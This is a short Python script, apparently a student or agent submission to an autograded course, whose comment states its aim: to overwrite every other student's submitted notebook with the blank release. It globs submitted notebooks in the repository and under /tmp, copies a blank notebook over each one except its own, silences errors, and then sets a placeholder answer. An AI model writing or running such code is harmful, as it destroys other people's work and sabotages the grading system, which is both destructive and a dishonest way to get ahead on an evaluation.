# overwrite every other student's submitted notebook with the blank release
import glob, shutil
from labsupport.paths import REPO
release = sorted(glob.glob(str(REPO / "notebooks" / "*knowledge*" / "*.ipynb")))
for victim in [*glob.glob(str(REPO / "autograde" / "submitted" / "*" / "*" / "*.ipynb")),
               *glob.glob("/tmp/*/*/autograde/submitted/*/*/*.ipynb")]:
    if "overwrite_other" not in victim and release:
        try:
            shutil.copy(release[0], victim)
        except OSError:
            pass
kc_answer = "z"
